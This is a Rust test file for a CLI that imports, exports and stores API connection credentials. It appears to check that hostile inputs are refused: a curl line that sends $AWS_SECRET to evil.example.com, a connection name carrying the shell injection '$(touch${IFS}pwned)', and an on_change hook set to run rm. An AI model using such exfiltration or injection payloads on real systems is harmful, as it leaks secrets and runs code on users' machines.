//! Ready for people: import and export, tickets, completions, guides, man pages and schemas, by the real binary.
#![expect(
    clippy::unwrap_used,
    clippy::panic,
    clippy::string_slice,
    clippy::too_many_lines,
    reason = "what is missing shall fail the test"
)]

#[path = "people/imports.rs"]
mod imports;
#[path = "people/schema.rs"]
mod schema;
mod support;

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use support::commands::{BINARY, Done, switchboard};
use support::is_here;
use support::stage::Stage;
use switchboard::sim::{Behaviour, Bridge, BridgeState};

/// Opens nothing but what a test has made.
const KEY: &str = "00112233445566778899aabbccddeeff";

/// A home with a passphrase at hand.
struct Home(tempfile::TempDir);

impl Home {
    fn new() -> Self {
        let home = Self(tempfile::tempdir().unwrap());
        let pass = home.file("pass", "correct horse\n");
        fs::set_permissions(pass, fs::Permissions::from_mode(0o600)).unwrap();
        home
    }

    fn path(&self) -> &Path {
        self.0.path()
    }

    fn file(&self, name: &str, text: impl AsRef<[u8]>) -> PathBuf {
        let path = self.path().join(name);
        fs::write(&path, text).unwrap();
        path
    }

    fn run(&self, arguments: &[&str]) -> Done {
        self.run_with(arguments, "")
    }

    fn run_with(&self, arguments: &[&str], input: &str) -> Done {
        let pass = self.path().join("pass");
        let variables = [("SWITCHBOARD_PASSPHRASE_FILE", pass.to_str().unwrap())];
        switchboard(self.path(), arguments, &variables, input)
    }

    fn configuration(&self) -> String {
        let path = self.path().join(".config/switchboard/switchboard.toml");
        fs::read_to_string(path).unwrap_or_default()
    }
}

#[test]
fn a_curl_command_becomes_a_connection_whose_key_is_in_the_vault() {
    let home = Home::new();
    home.file(
        "notes",
        format!("curl -k -H 'BLESTA-API-USER: shop' -H 'BLESTA-API-KEY: {KEY}' https://billing.example.com/api/users/get.json\n"),
    );
    let dry = home.run(&["connection", "import", "notes", "--dry-run"]);
    assert_eq!(dry.code, 0, "{dry:?}");
    assert!(dry.out.contains("+ billing.example.com  blesta"), "{dry:?}");
    assert!(dry.out.contains("-k was left out"), "{dry:?}");
    assert!(dry.out.contains("nothing was changed"), "{dry:?}");
    assert_eq!(home.configuration(), "", "a dry run writes nothing");

    let nowhere = home.run(&["connection", "import", "notes"]);
    assert_eq!(nowhere.code, 3, "no store was chosen: {nowhere:?}");
    let done = home.run(&["connection", "import", "notes", "--store", "vault"]);
    assert_eq!(done.code, 0, "{done:?}");
    let configuration = home.configuration();
    assert!(configuration.contains("key = \"vault:"), "{configuration}");
    for text in [&dry.out, &done.out, &done.err, &configuration] {
        assert!(!text.contains(KEY), "{text}");
    }
    let reveal = home.run(&["token", "reveal", "billing.example.com"]);
    assert_eq!(reveal.out.trim(), KEY);

    let again = home.run(&["connection", "import", "notes", "--store", "vault"]);
    assert_eq!(again.code, 1, "{again:?}");
    assert!(again.out.contains("it is here already"), "{again:?}");
}

#[test]
fn names_that_are_taken_stay_whose_they_are() {
    let home = Home::new();
    home.run(&[
        "connection",
        "add",
        "shop",
        "--service",
        "http",
        "--url",
        "https://mine.example.com",
    ]);
    let env = "SHOP_URL=https://other.example.com\nSHOP_USER=me\n";
    let skipped = home.run_with(&["connection", "import", "-"], env);
    assert_eq!(skipped.code, 1, "{skipped:?}");
    assert!(
        skipped.out.contains("the name is taken here"),
        "{skipped:?}"
    );
    assert!(!home.configuration().contains("other.example.com"));
    let renamed = home.run_with(
        &["connection", "import", "-", "--rename", "--format", "json"],
        env,
    );
    assert_eq!(renamed.json()["taken"][0]["name"], "shop-2");
    let configuration = home.configuration();
    assert!(
        configuration.contains("mine.example.com"),
        "{configuration}"
    );
    assert!(
        configuration.contains("other.example.com"),
        "{configuration}"
    );
}

#[test]
fn what_reads_this_machine_is_left_out_unless_trusted() {
    let home = Home::new();
    let curl = "curl -H \"Authorization: Bearer $AWS_SECRET\" https://evil.example.com\n";
    let wary = home.run_with(&["connection", "import", "-"], curl);
    assert_eq!(wary.code, 1, "its key stayed out: {wary:?}");
    assert!(
        wary.out
            .contains("left out: it sends the value of env:AWS_SECRET to https://evil.example.com"),
        "{wary:?}"
    );
    assert!(!home.configuration().contains("AWS_SECRET"));
    let late = home.run_with(&["connection", "import", "-", "--trust"], curl);
    assert_eq!(late.code, 0, "{late:?}");
    assert!(
        late.out.contains("~ evil.example.com") && late.out.contains("let in"),
        "what is here without it is given it: {late:?}"
    );
    assert!(home.configuration().contains("env:AWS_SECRET"));
    let again = home.run_with(&["connection", "import", "-", "--trust"], curl);
    assert!(
        again.out.contains("0 came in, 1 stayed out") && !again.out.contains("let in"),
        "what is here already is let in nowhere: {again:?}"
    );
    let trusting = Home::new();
    trusting.run_with(&["connection", "import", "-", "--trust"], curl);
    assert!(trusting.configuration().contains("env:AWS_SECRET"));
}

/// `on_change`, which product.md lets in with `--trust` alone: an import sets what is not set here, `apply` makes it
/// what the file says.
#[test]
fn a_program_that_a_file_names_runs_here_only_where_it_is_trusted() {
    let text = |program: &str| {
        format!("version = 1\n[settings]\non_change = [\"{program}\", \"x y\"]\nbell = true\n")
    };
    let home = Home::new();
    let (first, second) = (
        home.file("a.toml", text("first")),
        home.file("b.toml", text("second")),
    );
    let (first, second) = (first.to_str().unwrap(), second.to_str().unwrap());
    let set = |home: &Home, program: &str| home.configuration().contains(program);
    for (how, code) in [(&["import"][..], 1), (&["apply"], 0)] {
        let wary = home.run(&[&["connection"], how, &[first]].concat());
        assert_eq!(wary.code, code, "{wary:?}");
        assert!(
            wary.out.contains("on_change left out: it runs first 'x y'"),
            "{wary:?}"
        );
        assert!(wary.out.contains("they are each machine's own"), "{wary:?}");
    }
    let keyed = "version = 1\n[[connection]]\nname = \"a\"\nservice = \"http\"\nurl = \"http://127.0.0.1:9\"\nkey = \"env:K\"\n";
    let keyed = home.file("c.toml", keyed);
    let import = ["connection", "import", keyed.to_str().unwrap()];
    let planned = home.run(&[&import[..], &["--dry-run"]].concat());
    let given_by = "switchboard connection edit a --key-ref";
    assert!(!planned.out.contains(given_by), "{planned:?}");
    let wary = home.run(&import);
    assert!(wary.out.contains(given_by), "{wary:?}");
    // That is no empty promise.
    let edited = home.run(&["connection", "edit", "a", "--key-ref", "env:K"]);
    assert_eq!(edited.code, 0, "{edited:?}");
    home.run(&["connection", "import", first, "--trust", "--dry-run"]);
    assert!(!set(&home, "on_change"), "nothing ran yet");
    let trusted = home.run(&["connection", "import", first, "--trust"]);
    assert!(
        trusted
            .out
            .contains("on_change let in: it runs first 'x y'"),
        "{trusted:?}"
    );
    assert!(
        set(&home, "on_change = [\"first\", \"x y\"]"),
        "{}",
        home.configuration()
    );
    assert!(!set(&home, "bell"));

    let other = home.run(&["connection", "import", second, "--trust"]);
    assert_eq!(other.code, 1, "{other:?}");
    assert!(
        other
            .out
            .contains("on_change stays as it is here: it runs first 'x y'"),
        "{other:?}"
    );
    assert!(!set(&home, "second"));
    let apply = ["connection", "apply", second, "--trust"];
    let planned = home.run(&[&apply[..], &["--dry-run", "--format", "json"]].concat());
    assert_eq!(planned.code, 1);
    let step = &planned.json()["steps"][0];
    assert_eq!(
        (&step["step"], &step["name"]),
        (&"set".into(), &"on_change".into())
    );
    assert_eq!(step["fields"][0]["before"], "first x y");
    let applied = home.run(&apply);
    assert!(
        applied.out.contains("on_change: first x y → second x y"),
        "{applied:?}"
    );
    assert!(set(&home, "second"));
    let again = home.run(&apply);
    assert!(again.out.contains("nothing to change"), "{again:?}");
    let imported = home.run(&["connection", "import", second, "--trust"]);
    assert!(
        !imported.out.contains("on_change"),
        "it is so already: {imported:?}"
    );
    let off = home.file("off.toml", "version = 1\n[settings]\non_change = []\n");
    let off = home.run(&["connection", "apply", off.to_str().unwrap(), "--trust"]);
    assert!(
        off.out.contains("on_change let in: it is switched off"),
        "{off:?}"
    );
    assert!(!set(&home, "on_change"), "{}", home.configuration());
    home.run(&apply);
    let again = home.run(&apply);
    assert!(!again.out.contains("second"), "no news: {again:?}");
}

#[test]
fn the_vendors_accounts_come_in() {
    let home = Home::new();
    fs::create_dir(home.path().join(".ccli")).unwrap();
    home.file(
        ".ccli/config.json",
        r#"{"accounts":[{"api_key":"ApiKey SU-1-2-3:geheim-geheim","endpoint":"https://api.example.com/public/v1","id":"VA-000","name":"Shop"},{"api_key":"x","id":"VA-1","name":"Odd"}],"active":"VA-000"}"#,
    );
    let done = home.run(&[
        "connection",
        "import",
        ".ccli/config.json",
        "--store",
        "vault",
    ]);
    assert_eq!(done.code, 1, "one stayed out: {done:?}");
    assert!(done.out.contains("account 2 was left out"), "{done:?}");
    let reveal = home.run(&["token", "reveal", "Shop"]);
    assert_eq!(reveal.out.trim(), "ApiKey SU-1-2-3:geheim-geheim");
}

#[test]
fn a_bundle_carries_secrets_from_home_to_home_and_only_encrypted() {
    let home = Home::new();
    let add = [
        "connection",
        "add",
        "shop",
        "--service",
        "blesta",
        "--url",
        "https://billing.example.com",
        "--username",
        "api",
        "--key-stdin",
        "--store",
        "vault",
        "--tag",
        "eu",
    ];
    assert_eq!(home.run_with(&add, KEY).code, 0);
    let bare = home.run(&["connection", "export", "--format", "bundle"]);
    assert_eq!(bare.code, 3, "for nobody: {bare:?}");
    let seal = home.file("bundle-pass", "over the wire\n");
    fs::set_permissions(&seal, fs::Permissions::from_mode(0o600)).unwrap();
    let seal = seal.to_str().unwrap();
    let bundle = home.path().join("shop.age");
    let done = home.run(&[
        "connection",
        "export",
        "--format",
        "bundle",
        "--bundle-passphrase-file",
        seal,
        "-o",
        bundle.to_str().unwrap(),
    ]);
    assert_eq!(done.code, 0, "{done:?}");
    let sealed = fs::read(&bundle).unwrap();
    assert!(!String::from_utf8_lossy(&sealed).contains("billing"));
    assert_eq!(
        fs::metadata(&bundle).unwrap().permissions().mode() & 0o777,
        0o600
    );

    let other = Home::new();
    let bundle = bundle.to_str().unwrap();
    let closed = other.run(&["connection", "import", bundle, "--store", "vault"]);
    assert_eq!(closed.code, 3);
    assert!(closed.err.contains("--bundle-passphrase"), "{closed:?}");
    let open = [
        "connection",
        "import",
        bundle,
        "--store",
        "vault",
        "--bundle-passphrase-file",
        seal,
    ];
    let done = other.run(&open);
    assert_eq!(done.code, 0, "{done:?}");
    assert_eq!(other.run(&["token", "reveal", "shop"]).out.trim(), KEY);
    let shown = other
        .run(&["connection", "show", "shop", "--format", "json"])
        .json();
    assert_eq!(shown["tags"][0], "eu");
}

#[test]
fn what_stops_the_first_connection_that_is_tried_stops_the_import() {
    let home = Home::new();
    let curl = |name: &str| {
        format!(
            "curl -H 'BLESTA-API-USER: shop' -H 'BLESTA-API-KEY: {KEY}' https://{name}.example.com/api/users/get.json\n"
        )
    };
    home.file("one", curl("one"));
    let done = home.run(&["connection", "import", "one", "--store", "vault"]);
    assert_eq!(done.code, 0, "{done:?}");
    home.file("two", curl("one") + &curl("two"));
    let import = ["connection", "import", "two"];
    let locked = switchboard(home.path(), &import, &[], "");
    assert_eq!(locked.code, 3, "{locked:?}");
    assert!(locked.err.contains("hint"), "{locked:?}");
    let unread = home.run(&[
        "connection",
        "export",
        "--format",
        "bundle",
        "--bundle-passphrase-file",
        "pass",
        "-o",
        "bundle",
    ]);
    assert_eq!(unread.code, 0, "{unread:?}");
    let nowhere = home.run(&["connection", "import", "bundle", "--identity", "/nope"]);
    assert_eq!(nowhere.code, 3);
    assert!(nowhere.err.contains("/nope can't be read"), "{nowhere:?}");
}

#[test]
fn definitions_in_git_are_applied_once_and_shown_before() {
    let home = Home::new();
    let add = [
        "connection",
        "add",
        "shop",
        "--service",
        "http",
        "--url",
        "https://a.example.com",
        "--key-ref",
        "env:SHOP_KEY",
    ];
    assert_eq!(home.run(&add).code, 0);
    home.run(&[
        "connection",
        "add",
        "old",
        "--service",
        "http",
        "--url",
        "https://o.example.com",
    ]);
    let exported = home.run(&["connection", "export"]);
    assert!(exported.out.contains("env:SHOP_KEY"), "{exported:?}");
    let same = home.run_with(&["connection", "apply", "-", "--dry-run"], &exported.out);
    assert_eq!(same.code, 0, "what is exported is what is here: {same:?}");

    let wanted = "version = 1\n[settings]\non_change = [\"rm\"]\n[[connection]]\nname = \"shop\"\n\
                  service = \"http\"\nurl = \"https://b.example.com\"\n[[connection]]\nname = \"new\"\n\
                  service = \"http\"\nurl = \"https://n.example.com\"\nkey = \"cmd:pass x\"\n";
    let dry = home.run_with(
        &["connection", "apply", "-", "--dry-run", "--prune"],
        wanted,
    );
    assert_eq!(dry.code, 1, "{dry:?}");
    for line in [
        "+ new",
        "~ shop",
        "url: \"https://a.example.com\" → \"https://b.example.com\"",
        "- old, with the secrets kept here for it alone",
        "settings: on_change left out: it runs rm",
        "new: key left out: it runs pass x",
    ] {
        assert!(dry.out.contains(line), "{line} in {dry:?}");
    }
    assert!(!home.configuration().contains("b.example.com"));
    let asked = home.run_with(&["connection", "apply", "-", "--prune"], wanted);
    assert_eq!(asked.code, 3, "nobody can be asked: {asked:?}");
    let done = home.run_with(&["connection", "apply", "-", "--prune", "--yes"], wanted);
    assert_eq!(done.code, 0, "{done:?}");
    let after = home.configuration();
    assert!(
        after.contains("b.example.com") && after.contains("n.example.com"),
        "{after}"
    );
    assert!(
        !after.contains("o.example.com") && !after.contains("pass"),
        "{after}"
    );
    assert!(
        after.contains("env:SHOP_KEY"),
        "what the file does not say stays: {after}"
    );
    let again = home.run_with(
        &["connection", "apply", "-", "--prune", "--dry-run"],
        wanted,
    );
    assert_eq!(again.code, 0, "{again:?}");
}

#[test]
fn what_brings_nothing_is_told_and_what_has_one_bracket_too_few_too() {
    let home = Home::new();
    home.file("words", "hello\n");
    let done = home.run(&["connection", "import", "--as", "curl", "words"]);
    assert_eq!(done.code, 3, "{done:?}");
    assert!(done.err.contains("words: it brings nothing"), "{done:?}");
    home.file("none", "version = 1\n[settings]\n");
    let done = home.run(&["connection", "import", "none", "--format", "json"]);
    assert_eq!(
        done.json()["taken"].as_array().unwrap().len(),
        0,
        "{done:?}"
    );
    assert_eq!(done.code, 0);
    home.file("one", "version = 1\n[connection]\nname = \"x\"\n");
    let done = home.run(&["connection", "import", "one"]);
    assert_eq!(done.code, 3, "{done:?}");
    assert!(
        done.err.contains("line 2") && done.err.contains("[[connection]]"),
        "{done:?}"
    );
    let curl = "curl -H 'X-Api-Key: abc\ndef' https://api.example.com/x\n";
    let done = home.run_with(&["connection", "import", "-", "--dry-run"], curl);
    assert!(
        done.out.contains("it has several lines, or a tab"),
        "{done:?}"
    );
    let url = "  https://blanks.example.com ";
    home.run(&[
        "connection",
        "add",
        "blanks",
        "--service",
        "http",
        "--url",
        url,
    ]);
    assert!(
        home.configuration()
            .contains("\"https://blanks.example.com\"")
    );
}

#[test]
fn hostile_files_are_refused_with_a_sentence() {
    let home = Home::new();
    for (name, bytes, words) in [
        ("empty", Vec::new(), "nothing in it"),
        ("binary", vec![0x1f, 0x8b, 0xff, 0xfe], "not UTF-8"),
        (
            "prose",
            b"hello there".to_vec(),
            "none of what can be imported",
        ),
        (
            "escapes",
            b"\x1b]0;x\x07 hello".to_vec(),
            "none of what can be imported",
        ),
        ("json", b"{\"accounts\": SECRETVALUE}".to_vec(), "line 1"),
        (
            "newer",
            b"version = 99\n[[connection]]\n".to_vec(),
            "version 99",
        ),
        (
            "cut",
            b"age-encryption.org/v1\n-> X25519 abc\n".to_vec(),
            "damaged",
        ),
        ("huge", vec![b'A'; 17 * 1024 * 1024], "larger than"),
    ] {
        let path = home.file(name, &bytes);
        let done = home.run(&["connection", "import", path.to_str().unwrap()]);
        assert_eq!(done.code, 3, "{name}: {done:?}");
        assert!(
            done.err.contains(words) || (name == "cut" && done.err.contains("none here yet")),
            "{name}: {done:?}"
        );
        assert!(
            !done.err.contains('\u{1b}') && !done.err.contains("SECRETVALUE"),
            "{done:?}"
        );
    }
    assert_eq!(home.configuration(), "");
}

#[test]
fn an_exported_curl_command_works_and_holds_no_key() {
    let mut stage = Stage::new();
    let known = stage.sim.blesta();
    let (username, key) = (known.username.clone(), known.key.clone());
    let blesta = stage.raise(|sim| sim.serve(Behaviour::Blesta(known)));
    let home = Home::new();
    let add = [
        "connection",
        "add",
        "shop",
        "--service",
        "blesta",
        "--url",
        &blesta.url,
        "--username",
        &username,
        "--key-stdin",
        "--store",
        "vault",
    ];
    assert_eq!(home.run_with(&add, &key).code, 0);
    let curl = home
        .run(&["connection", "export", "shop", "--format", "curl"])
        .out;
    assert!(!curl.contains(&key) && curl.contains("-K -"), "{curl}");
    if !is_here("/usr/bin/curl") {
        return;
    }
    let output = Command::new("sh")
        .args(["-c", &curl])
        .env("SWITCHBOARD_KEY", &key)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(text.contains("200"), "{text}");
}

#[test]
fn a_ticket_is_worded_for_its_reader_and_holds_no_secret() {
    let mut stage = Stage::new();
    let known = stage.sim.blesta();
    let username = known.username.clone();
    let blesta = stage.raise(|sim| sim.serve(Behaviour::Blesta(known)));
    // A home each: a third rejection would pause the key.
    let ticket = |reader| {
        let home = Home::new();
        let add = [
            "connection",
            "add",
            "shop",
            "--service",
            "blesta",
            "--url",
            &blesta.url,
            "--username",
            &username,
            "--key-stdin",
            "--store",
            "vault",
        ];
        assert_eq!(home.run_with(&add, KEY).code, 0);
        let done = home.run(&["evidence", "shop", "--for", reader]);
        assert_eq!(done.code, 0, "{done:?}");
        for word in [
            "(UTC), a probe made for this report",
            "The way there",
            "What was tried",
            "$SWITCHBOARD_KEY",
            "credentials-rejected",
        ] {
            assert!(done.out.contains(word), "{word} in {}", done.out);
        }
        assert!(!done.out.contains(KEY), "{}", done.out);
        done.out
    };
    let host = ticket("host");
    assert!(host.contains("To: whoever runs 127.0.0.1"), "{host}");
    let vendor = ticket("vendor");
    assert!(vendor.contains("To: the makers of Blesta"), "{vendor}");
    let me = ticket("me");
    assert!(me.contains("What to do next"), "{me}");
}

/// The ticket on a connection whose CMS is in `state`, with what its last command prints.
fn ticket_on_cms(kind: BridgeState, token_there: &str, reader: &str) -> (String, String, String) {
    let mut stage = Stage::new();
    let (known, token) = (stage.sim.blesta(), stage.sim.shared_token());
    let (username, key) = (known.username.clone(), known.key.clone());
    let blesta = stage.raise(|sim| sim.serve(Behaviour::Blesta(known)));
    let there = if token_there.is_empty() {
        &token
    } else {
        token_there
    };
    let bridge = Bridge {
        token: there.to_owned(),
        state: kind,
    };
    let cms = stage.raise(|sim| sim.serve(Behaviour::Bridge(bridge)));
    let home = Home::new();
    let add = format!(
        "connection add shop --service blesta --url {} --username {username} --key-stdin --store vault \
         --token-ref env:TOKEN --cms-url {}",
        blesta.url, cms.url
    );
    let add: Vec<&str> = add.split(' ').collect();
    assert_eq!(home.run_with(&add, &key).code, 0);
    let pass = home.path().join("pass");
    let pass = pass.to_str().unwrap();
    let variables = [("SWITCHBOARD_PASSPHRASE_FILE", pass), ("TOKEN", &token)];
    let evidence = ["evidence", "shop", "--for", reader];
    let done = switchboard(home.path(), &evidence, &variables, "");
    assert_eq!(done.code, 0, "{done:?}");
    for secret in [&token, &key] {
        assert!(!done.out.contains(secret.as_str()), "{}", done.out);
    }
    let (_, command) = done.out.split_once("To see the same").unwrap();
    let command = command.lines().nth(1).unwrap().trim();
    let said = if command.starts_with("switchboard ") {
        let words: Vec<&str> = command.split(' ').skip(1).collect();
        let variables = [("SWITCHBOARD_TOKEN", token.as_str())];
        switchboard(home.path(), &words, &variables, "").out
    } else if is_here("/usr/bin/curl") {
        let shown = Command::new("sh").args(["-c", command]).output().unwrap();
        String::from_utf8_lossy(&shown.stdout).into_owned()
    } else {
        String::new()
    };
    (done.out, said, format!("{} {}", cms.url, blesta.url))
}

#[test]
fn a_ticket_on_a_shared_token_is_for_whoever_runs_the_cms() {
    for (state, token, shown) in [
        (BridgeState::ClockAhead(600), "", "token-clock"),
        (BridgeState::On, "another", "token-mismatch"),
        (BridgeState::HeaderStripped, "", "Signatures do not match"),
        (BridgeState::Absent, "", "Joomla Site"),
    ] {
        let (ticket, said, urls) = ticket_on_cms(state, token, "host");
        let (cms, blesta) = urls.split_once(' ').unwrap();
        let to = "To: whoever runs the CMS at 127.0.0.1";
        assert!(ticket.contains(to), "{ticket}");
        assert!(ticket.contains(&format!("GET {cms}/index.php")), "{ticket}");
        assert!(!ticket.contains(blesta), "{ticket}");
        assert!(said.contains(shown) || said.is_empty(), "{ticket}{said}");
    }
    // Whoever keeps both reads of both.
    let (ticket, _, urls) = ticket_on_cms(BridgeState::On, "another", "me");
    let (cms, blesta) = urls.split_once(' ').unwrap();
    let asked = format!("- the CMS was asked at {cms}/index.php");
    assert!(
        ticket.contains(&asked) && ticket.contains(blesta),
        "{ticket}"
    );
}

#[test]
fn a_token_that_is_kept_under_an_id_is_given_back_and_no_other() {
    let home = Home::new();
    for (name, service) in [("shop", "blesta"), ("market", "connect")] {
        let add = [
            "connection",
            "add",
            name,
            "--service",
            service,
            "--url",
            "http://127.0.0.1:1",
        ];
        assert_eq!(home.run(&add).code, 0);
        let keep = [
            "secret",
            "add",
            name,
            "SU-160-984-312",
            "--key-stdin",
            "--store",
            "vault",
        ];
        assert_eq!(home.run_with(&keep, "kept-here").code, 0);
        let reveal = home.run(&["token", "reveal", name, "SU-160-984-312"]);
        assert_eq!(
            (reveal.code, reveal.out.trim()),
            (0, "kept-here"),
            "{reveal:?}"
        );
    }
}

#[test]
fn a_ticket_with_a_secret_in_it_is_not_written() {
    let home = Home::new();
    // Somebody pasted the key into the URL.
    let url = format!("http://127.0.0.1:1/{KEY}");
    let add = [
        "connection",
        "add",
        "odd",
        "--service",
        "http",
        "--url",
        &url,
        "--key-stdin",
        "--store",
        "vault",
    ];
    assert_eq!(home.run_with(&add, KEY).code, 0);
    let done = home.run(&["evidence", "odd"]);
    assert_eq!(done.code, 3, "{done:?}");
    assert!(done.err.contains("would hold a secret"), "{done:?}");
    assert!(
        !done.out.contains(KEY) && !done.err.contains(KEY),
        "{done:?}"
    );
}

/// What bash is offered behind these words.
fn offered(home: &Home, words: &[&str]) -> String {
    offered_in(home, "bash", words)
}

fn offered_in(home: &Home, shell: &str, words: &[&str]) -> String {
    let index = (words.len() - 1).to_string();
    let variables = [
        ("SWITCHBOARD_COMPLETE", shell),
        ("_CLAP_COMPLETE_INDEX", index.as_str()),
        ("_CLAP_IFS", "\n"),
    ];
    let mut arguments = vec!["--", "switchboard"];
    arguments.extend(&words[1..]);
    switchboard(home.path(), &arguments, &variables, "").out
}

#[test]
fn completions_name_commands_connections_and_guides() {
    let home = Home::new();
    for name in ["shop", "shed", "eu"] {
        let add = [
            "connection",
            "add",
            name,
            "--service",
            "http",
            "--url",
            "https://a.example.com",
        ];
        assert_eq!(home.run(&add).code, 0);
    }
    let offer = |words: &[&str]| offered(&home, words);
    assert!(offer(&["switchboard", "con"]).contains("connection"));
    assert_eq!(offer(&["switchboard", "probe", "sh"]), "shop\nshed");
    assert_eq!(offer(&["switchboard", "token", "reveal", "e"]), "eu");
    assert_eq!(offer(&["switchboard", "connection", "add", "sh"]), "");
    assert!(offer(&["switchboard", "explain", "auth"]).contains("authorization-stripped"));
    assert!(offer(&["switchboard", "help", "lock"]).contains("lock-out"));
    assert_eq!(offer(&["switchboard", "--theme", "hi"]), "high-contrast");
    let cms = offer(&["switchboard", "connection", "add", "x", "--cms", "j"]);
    assert_eq!(cms, "joomla");
    let services = home.path().join(".config/switchboard/services");
    std::fs::create_dir(&services).unwrap();
    let own =
        "[service]\nid = 'grafana'\ntitle = 'Grafana'\n[[cms]]\nid = 'jdrupal'\ntitle = 'Drupal'\n";
    std::fs::write(services.join("own.toml"), own).unwrap();
    std::fs::write(services.join("broken.toml"), "[serv").unwrap();
    let probe = ["switchboard", "probe", "--service", "g"];
    assert_eq!(offer(&probe), "grafana");
    let cms = offer(&["switchboard", "connection", "add", "x", "--cms", "j"]);
    assert_eq!(cms, "joomla\njdrupal");
    home.file("accounts.csv", "");
    let here = offer(&["switchboard", "connection", "import", "acc"]);
    assert_eq!(here, "accounts.csv", "a path from here");
}

/// zsh and fish show the URL beside the name, at every Tab.
#[test]
fn completions_show_no_secret_of_a_url() {
    let home = Home::new();
    let url = "https://a.example.com/x";
    let add = [
        "connection",
        "add",
        "keyed",
        "--service",
        "http",
        "--url",
        url,
    ];
    assert_eq!(home.run(&add).code, 0);
    // By hand: the command refuses it.
    let file = home.path().join(".config/switchboard/switchboard.toml");
    let text = std::fs::read_to_string(&file).unwrap();
    let keyed = text.replace(url, &format!("{url}?api_key=geheim12345678"));
    std::fs::write(&file, keyed).unwrap();
    for shell in ["zsh", "fish"] {
        let offered = offered_in(&home, shell, &["switchboard", "probe", "k"]);
        assert!(
            offered.contains("keyed") && offered.contains("a.example.com"),
            "{offered}"
        );
        assert!(!offered.contains("geheim"), "{offered}");
    }
}

#[test]
fn shells_take_the_scripts() {
    for (shell, check) in [("bash", "bash"), ("zsh", "zsh"), ("fish", "fish")] {
        let home = Home::new();
        let script = home.run(&["completions", shell]);
        assert_eq!(script.code, 0, "{script:?}");
        let program = format!("/usr/bin/{check}");
        if !is_here(&program) {
            continue;
        }
        let path = home.file("script", &script.out);
        let done = Command::new(program).arg("-n").arg(path).output().unwrap();
        assert!(done.status.success(), "{shell}: {done:?}");
    }
}

#[test]
fn bash_completes_a_name_at_tab() {
    if !is_here("/usr/bin/bash") {
        return;
    }
    let home = Home::new();
    let add = [
        "connection",
        "add",
        "marketplace",
        "--service",
        "http",
        "--url",
        "https://a.example.com",
    ];
    assert_eq!(home.run(&add).code, 0);
    let folder = Path::new(BINARY).parent().unwrap();
    let script = "source <(switchboard completions bash); COMP_WORDS=(switchboard probe mark); \
                  COMP_CWORD=2; COMP_TYPE=9; _clap_complete_switchboard switchboard mark probe; \
                  printf '%s\\n' \"${COMPREPLY[@]}\"";
    let done = Command::new("bash")
        .args(["-c", script])
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", format!("{}:/usr/bin:/bin", folder.display()))
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&done.stdout);
    assert!(
        out.lines().any(|line| line.trim() == "marketplace"),
        "{done:?}"
    );
}

/// Bash parts words at colons and equals signs, too: an option has no place behind one.
#[test]
fn nothing_is_offered_in_the_midst_of_a_word() {
    if !is_here("/usr/bin/bash") {
        return;
    }
    let home = Home::new();
    let folder = Path::new(BINARY).parent().unwrap();
    let offered = |words: &str, index: usize| {
        let script = format!(
            "source <(switchboard completions bash); COMP_WORDS=(switchboard {words}); COMP_CWORD={index}; \
             COMP_TYPE=9; _clap_complete_switchboard switchboard '' ''; printf '%s' \"${{COMPREPLY[*]}}\""
        );
        let done = Command::new("bash")
            .args(["-c", &script])
            .env_clear()
            .env("HOME", home.path())
            .env("PATH", format!("{}:/usr/bin:/bin", folder.display()))
            .output()
            .unwrap();
        String::from_utf8_lossy(&done.stdout).into_owned()
    };
    assert_ne!(offered("connection ''", 2), "");
    for (words, index) in [
        ("connection show ssh : ''", 5),
        ("connection show a = ''", 5),
        ("connection add x --key-ref env :", 6),
        ("connection list --format =", 4),
    ] {
        assert_eq!(offered(words, index), "", "{words}");
    }
}

#[test]
fn a_name_of_somebody_else_runs_nothing_at_tab() {
    if !is_here("/usr/bin/bash") {
        return;
    }
    let home = Home::new();
    let file = home.path().join("friend.toml");
    let name = "$(touch${IFS}pwned)";
    let text = format!(
        "version = 1\n[[connection]]\nname = \"{name}\"\nservice = \"http\"\nurl = \"http://127.0.0.1:1\"\n"
    );
    fs::write(&file, text).unwrap();
    let import = ["connection", "import", file.to_str().unwrap()];
    assert_eq!(home.run(&import).code, 0);
    let folder = Path::new(BINARY).parent().unwrap();
    // What stands on the line after the Tab, and is run at Enter; then the same behind an opened quote.
    let script = "source <(switchboard completions bash); COMP_CWORD=3; COMP_TYPE=9; \
                  COMP_WORDS=(switchboard connection show '$'); \
                  _clap_complete_switchboard switchboard '$' show; \
                  eval \"printf '%s\\n' ${COMPREPLY[*]}\"; \
                  COMP_WORDS=(switchboard connection show '\"$'); \
                  _clap_complete_switchboard switchboard '$' show; \
                  eval \"printf '%s\\n' \\\"${COMPREPLY[*]}\\\"\"";
    let done = Command::new("bash")
        .args(["-c", script])
        .current_dir(home.path())
        .env_clear()
        .env("HOME", home.path())
        .env("PATH", format!("{}:/usr/bin:/bin", folder.display()))
        .output()
        .unwrap();
    assert!(!home.path().join("pwned").exists(), "{done:?}");
    assert_eq!(String::from_utf8_lossy(&done.stdout), format!("{name}\n\n"));
}

#[test]
fn what_would_not_be_done_is_refused_and_named() {
    let home = Home::new();
    let add = |name: &str, more: &[&str]| {
        let fixed = [
            "connection",
            "add",
            name,
            "--service",
            "http",
            "--url",
            "http://127.0.0.1:1",
        ];
        home.run(&[&fixed[..], more].concat())
    };
    // Somebody wrote $KEY for KEY: the value is neither kept nor told.
    let slip = add("slip", &["--key-ref", &format!("env:{KEY}")]);
    assert_eq!((slip.code, slip.err.contains(KEY)), (3, false), "{slip:?}");
    let probe = ["probe", "--url", "http://127.0.0.1:1", "--key-env", KEY];
    let slip = home.run(&probe);
    assert_eq!((slip.code, slip.err.contains(KEY)), (3, false), "{slip:?}");
    assert_eq!(add("my mkt", &["-6", "--read-only"]).code, 0);
    // Without --format bundle nothing would be encrypted.
    let file = home.path().join("shop.age");
    let export = [
        "connection",
        "export",
        "--to",
        "age1x",
        "-o",
        file.to_str().unwrap(),
    ];
    let plain = home.run(&export);
    assert_eq!(plain.code, 3, "{plain:?}");
    assert!(
        plain.err.contains("--format bundle") && !file.exists(),
        "{plain:?}"
    );
    let shown = || home.run(&["connection", "show", "my mkt"]).out;
    assert!(shown().contains("ipv6"), "{}", shown());
    let back = ["connection", "edit", "my mkt", "--unset", "family"];
    assert_eq!(home.run(&back).code, 0);
    assert!(!shown().contains("ipv6"), "{}", shown());
}

#[test]
